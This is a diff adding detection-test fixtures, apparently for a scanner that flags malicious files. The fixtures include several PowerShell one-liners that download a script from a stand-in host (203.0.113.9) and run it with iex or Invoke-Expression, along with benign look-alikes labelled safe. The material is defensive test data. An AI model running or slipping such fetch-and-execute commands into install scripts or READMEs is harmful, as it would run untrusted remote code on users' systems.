@@ -192,3 +192,15 @@ file(
     "secrets",
     malicious=False,
 )
+
+_FETCHES = "New-Object Net.WebClient).DownloadString('http://203.0.113.9/x.ps1')"
+for _name, _filename, _text, _bad in (
+    ("powershell_iex", "install.ps1", f"iex ({_FETCHES}\n", True),
+    ("powershell_invoke", "install.ps1", f"$a = 1\nInvoke-Expression (({_FETCHES})\n", True),
+    ("powershell_pipe", "setup.psm1", f"({_FETCHES} | iex\n", True),
+    ("powershell_called", "run.cmd", "powershell -w 1 -c \"IEX(iwr 'http://203.0.113.9/x.ps1')\"\n", True),
+    ("powershell_in_card", "README.md", f"# Model\n\n```powershell\niex ({_FETCHES}\n```\n", True),
+    ("powershell_chocolatey", "README.md", "```powershell\niex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n```\n", False),
+    ("powershell_elixir", "README.md", "Start `iex -S mix`, or iex (the shell of Elixir), and call DownloadString.\n", False),
+):  # fmt: skip
+    file(f"text.{_name}", _filename, _text, "text", malicious=_bad)
